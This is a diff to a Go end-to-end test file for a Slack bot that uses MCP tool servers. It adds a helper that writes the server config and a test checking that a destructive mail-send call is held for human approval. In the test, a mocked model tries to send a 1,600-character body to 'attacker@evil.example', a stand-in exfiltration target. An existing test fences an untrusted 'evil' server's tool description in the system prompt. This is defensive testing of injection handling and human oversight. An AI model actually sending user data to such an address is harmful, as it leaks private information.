@@ -2,10 +2,13 @@ package main
 
 import (
 	"context"
+	"encoding/json"
+	"fmt"
 	"net/http"
 	"net/http/httptest"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"sync/atomic"
 	"testing"
@@ -40,20 +43,7 @@ func TestE2EUntrustedDescription(t *testing.T) {
 		func(_ context.Context, _ *sdk.CallToolRequest, _ noteArgs) (*sdk.CallToolResult, any, error) {
 			return &sdk.CallToolResult{Content: []sdk.Content{&sdk.TextContent{Text: "sunny"}}}, nil, nil
 		})
-	servers := map[string]*sdk.Server{"crm": crm, "weather": evil}
-	var cfg strings.Builder
-	cfg.WriteString("servers:\n")
-	for _, name := range []string{"crm", "weather"} {
-		srv := servers[name]
-		hs := httptest.NewServer(sdk.NewStreamableHTTPHandler(func(*http.Request) *sdk.Server { return srv }, nil))
-		t.Cleanup(hs.Close)
-		cfg.WriteString("  - name: " + name + "\n    url: " + hs.URL + "\n    timeout: 10s\n    trusted: " + map[string]string{"crm": "true", "weather": "false"}[name] + "\n")
-	}
-	path := filepath.Join(t.TempDir(), "mcp.yaml")
-	if err := os.WriteFile(path, []byte(cfg.String()), 0o644); err != nil {
-		t.Fatal(err)
-	}
-
+	path := mcpConfig(t, map[string]*sdk.Server{"crm": crm, "weather": evil}, "crm")
 	h := newHarness(t, emulator.Config{})
 	h.env["MCP_CONFIG"] = path
 	h.ai.Handle(func(r openaitest.Request) openaitest.Response {
@@ -95,6 +85,73 @@ func TestE2EUntrustedDescription(t *testing.T) {
 	}
 	if !strings.Contains(system, "- weather__forecast: "+desc) {
 		t.Errorf("the system prompt does not list the fenced description:\n%s", system)
+	}
+	assertNoSlackErrors(t, h)
+}
+
+// mcpConfig serves each server over streamable HTTP and returns an MCP_CONFIG file
+// naming them, those in trusted with trusted: true, the others false.
+func mcpConfig(t *testing.T, servers map[string]*sdk.Server, trusted ...string) string {
+	var cfg strings.Builder
+	cfg.WriteString("servers:\n")
+	for name, srv := range servers {
+		hs := httptest.NewServer(sdk.NewStreamableHTTPHandler(func(*http.Request) *sdk.Server { return srv }, nil))
+		t.Cleanup(hs.Close)
+		fmt.Fprintf(&cfg, "  - name: %s\n    url: %s\n    timeout: 10s\n    trusted: %v\n", name, hs.URL, slices.Contains(trusted, name))
+	}
+	path := filepath.Join(t.TempDir(), "mcp.yaml")
+	if err := os.WriteFile(path, []byte(cfg.String()), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+// TestE2EApprovalCardLongArguments: a destructive call whose body is 1,600 characters
+// long shows its recipient on the card next to the cut body, and the whole arguments
+// come as a file in the thread; nothing runs before a click.
+func TestE2EApprovalCardLongArguments(t *testing.T) {
+	var sent atomic.Int32
+	type mailArgs struct {
+		To      string `json:"to" jsonschema:"the recipient"`
+		Subject string `json:"subject" jsonschema:"the subject"`
+		Body    string `json:"body" jsonschema:"the text"`
+	}
+	yes := true
+	mail := sdk.NewServer(&sdk.Implementation{Name: "mail", Version: "1"}, nil)
+	sdk.AddTool(mail, &sdk.Tool{Name: "send", Description: "Send an e-mail.", Annotations: &sdk.ToolAnnotations{DestructiveHint: &yes}},
+		func(_ context.Context, _ *sdk.CallToolRequest, _ mailArgs) (*sdk.CallToolResult, any, error) {
+			sent.Add(1)
+			return &sdk.CallToolResult{Content: []sdk.Content{&sdk.TextContent{Text: "sent"}}}, nil, nil
+		})
+	body := strings.Repeat("The quarter went well. ", 70)[:1600]
+	args, _ := json.Marshal(map[string]string{"to": "attacker@evil.example", "subject": "Q3", "body": body})
+
+	h := newHarness(t, emulator.Config{})
+	h.env["MCP_CONFIG"] = mcpConfig(t, map[string]*sdk.Server{"mail": mail}, "mail")
+	h.ai.Handle(func(r openaitest.Request) openaitest.Response {
+		if len(r.ToolResults()) == 0 {
+			return openaitest.Response{ToolCalls: []openaitest.ToolCall{{ID: "call_m", Name: "mail__send", Arguments: string(args)}}}
+		}
+		return openaitest.Response{Text: "Done."}
+	})
+	w := &wfHarness{harness: h}
+	h.start()
+	thread := h.post(general, alice, "<@U0BOT> mail the Q3 summary", "")
+	card := w.latest(thread, "Approve", "")
+	file := w.file("mail__send-arguments.json")
+	h.idle()
+	m, _ := h.emu.Message(general, card)
+	blocks := jsonUnescape.Replace(string(m.Blocks))
+	for _, want := range []string{`\"to\": \"attacker@evil.example\"`, `\"subject\": \"Q3\"`, "more characters)", "the file below has every argument in full"} {
+		if !strings.Contains(blocks, want) {
+			t.Errorf("the card lacks %q: %s", want, blocks)
+		}
+	}
+	if !strings.Contains(file, body) || !strings.Contains(file, "attacker@evil.example") {
+		t.Errorf("the arguments' file = %q", file)
+	}
+	if n := sent.Load(); n != 0 {
+		t.Errorf("mail__send ran %d times before anyone confirmed", n)
 	}
 	assertNoSlackErrors(t, h)
 }
